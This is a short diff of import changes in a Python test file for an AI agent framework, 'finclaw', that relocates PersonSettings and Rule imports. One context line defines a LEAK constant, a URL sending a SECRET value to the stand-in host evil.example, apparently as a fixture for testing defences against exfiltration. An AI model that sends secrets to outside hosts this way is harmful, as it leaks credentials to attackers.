@@ -14,13 +14,13 @@ from tests.walks.tools import Desk as Watched
 from tests.walks.tools import hang
 
 from finclaw.agent.settings import AgentSettings
+from finclaw.approvals.people import PersonSettings
 from finclaw.errors import ProviderError
 from finclaw.kernel.chunk import ModelRequest
 from finclaw.kernel.envelope import Inbound, Sender
+from finclaw.policy.rule import Rule
 from finclaw.testing import call, fails, reply
 from finclaw.testing.provider import Line
-from finclaw.tools.approval.people import PersonSettings
-from finclaw.tools.policy.rule import Rule
 
 DELEGATING: Final = AgentSettings(delegate=True, default_extensions=())
 LEAK: Final = f"https://evil.example/?leak={SECRET}"
